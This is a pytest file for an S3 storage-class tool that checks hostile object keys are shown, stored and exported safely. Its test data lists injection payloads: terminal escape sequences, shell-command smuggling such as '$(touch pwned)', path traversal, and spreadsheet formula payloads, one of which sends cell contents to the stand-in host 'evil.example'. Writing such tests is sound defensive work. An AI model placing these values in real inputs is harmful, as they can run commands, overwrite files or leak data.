"""Keys made to do harm: no terminal is steered, no shell run, no formula calculated, nothing written elsewhere."""

import csv
import io
import re
import shlex
from contextlib import chdir, redirect_stderr, redirect_stdout
from pathlib import Path

import pytest

from orchestrator.cli import run
from orchestrator.common.aws_sessions import session
from orchestrator.lots.folder import read_lots
from tests.end_to_end.conftest import BUCKET, Typed, User
from tests.orchestrator.lots.lots_on_disk import iter_entries

STEERING = "\x1b]0;owned\x07\x1b[2J\x1b[31mred"
"""A key that moto's bucket takes, but then can't answer other questions in XML."""

ARCHIVED = (
    "\x9b2Jc1",
    "\u202egpj.exe",
    "$(touch pwned)",
    "`touch pwned`; touch pwned | touch pwned && touch pwned",
    "'; touch pwned #",
    '"; touch pwned #',
    "--storage-class",
    "-rf *",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "-2+3+cmd|'/C calc'!A0",
    "+1",
    "@SUM(1+1)",
    "\t=1",
    "{secret}%s%n${HOME}~",
)
MISSING = (
    STEERING,
    *(f"{key} gone" for key in ARCHIVED),
    "line\nfeed\rreturn\u2028",  # which moto can't hold
    "../../../../pwned",
    "/pwned",
    "lots/../../pwned",
    "C:\\pwned",
)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


class Screen(io.StringIO):
    """Standard output that leads to a terminal."""

    def isatty(self) -> bool:
        """That it does."""
        return True


def on_a_terminal(user: User, line: str) -> Typed:
    """What a command line, as typed, shows on a terminal; its remarks and errors beside it."""
    out, err = Screen(), io.StringIO()
    session.cache_clear()
    with chdir(user.folder), redirect_stdout(out), redirect_stderr(err):
        code = run(shlex.split(line)[1:])
    return Typed(code, out.getvalue(), err.getvalue())


@pytest.fixture
def hostile(user: User) -> User:
    """The user, with a bucket and a key file full of such keys."""
    user.archives(ARCHIVED)
    rows = io.StringIO(newline="")
    csv.writer(rows, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows([key] for key in (*ARCHIVED, *MISSING))
    user.writes("keys.csv", rows.getvalue())
    return user


def test_a_whole_job_of_hostile_keys(hostile: User, tmp_path: Path) -> None:
    """Every key arrives as it is, every command shows it without a control character, and no file appears elsewhere."""
    shown = {
        line: on_a_terminal(hostile, line)
        for line in (
            "s3reclass split keys.csv --key-column 1 --lots 2",
            "s3reclass estimate --place local",
            "s3reclass run --phase restore --dry-run",
            "s3reclass run --phase restore --no-estimate",
            "s3reclass run --phase copy --audit --no-estimate",
            "s3reclass status --lots",
            "s3reclass status --json",
            "s3reclass logs 0",
            "s3reclass report --csv -",
            "s3reclass report --csv report.csv",
            "s3reclass verify --csv verify.csv",
            "s3reclass stop",
            "s3reclass split \x1b[2J.csv",
            "s3reclass list \x1b[2J",
            "s3reclass report --job \x1b[2J",
            "s3reclass report --\x1b[2J",
        )
    }

    told = {line: typed.out + typed.err for line, typed in shown.items()}
    assert {line: CONTROL.findall(text) for line, text in told.items() if CONTROL.search(text)} == {}
    entries = iter_entries(hostile.folder / "lots", read_lots(hostile.folder / "lots"))
    assert sorted([*ARCHIVED, *MISSING]) == sorted(entry.key for entry in entries)
    assert {"STANDARD_IA"} == hostile.classes(ARCHIVED)
    assert not list(tmp_path.rglob("*pwned*"))
    assert {"folder"} >= {path.name for path in tmp_path.iterdir()}
    written = {"s3reclass.toml", "keys.csv", "lots", ".s3reclass", "report.csv", "verify.csv"}
    assert written == {path.name for path in hostile.folder.iterdir()}


def test_a_listing_of_hostile_keys(hostile: User) -> None:
    """A file gets each key exactly as it is; a terminal none that could steer it."""
    hostile.archives([STEERING])

    hostile.types(f"s3reclass list s3://{BUCKET} --output listed.csv")
    shown = on_a_terminal(hostile, f"s3reclass list s3://{BUCKET}")

    with (hostile.folder / "listed.csv").open(encoding="utf-8", newline="") as file:
        assert sorted([*ARCHIVED, STEERING]) == sorted(row[0] for row in csv.reader(file))
    assert len(shown.out.splitlines()) == len(ARCHIVED) + 1
    assert CONTROL.findall(shown.out + shown.err) == []
    assert "\\x1b]0;owned" in shown.out


def test_a_report_of_hostile_keys_can_be_opened_and_split(hostile: User) -> None:
    """No cell is a formula, and `split` makes of it the keys that there were."""
    hostile.types("s3reclass split keys.csv --key-column 1")
    hostile.types("s3reclass run --phase copy --no-estimate")

    hostile.types("s3reclass report --csv again.csv")
    split = hostile.types(
        "s3reclass split again.csv --bucket-column 1 --key-column 2 --version-column 3 --url-encoded --lots-dir again"
    )

    with (hostile.folder / "again.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert [cell for cell in cells if re.match(r"[=+@\t\r\n]|-.*[^\w.~/%-]", cell)] == []
    assert split.code == 0, split.err
    entries = iter_entries(hostile.folder / "again", read_lots(hostile.folder / "again"))
    assert sorted([*ARCHIVED, *MISSING]) == sorted(entry.key for entry in entries)
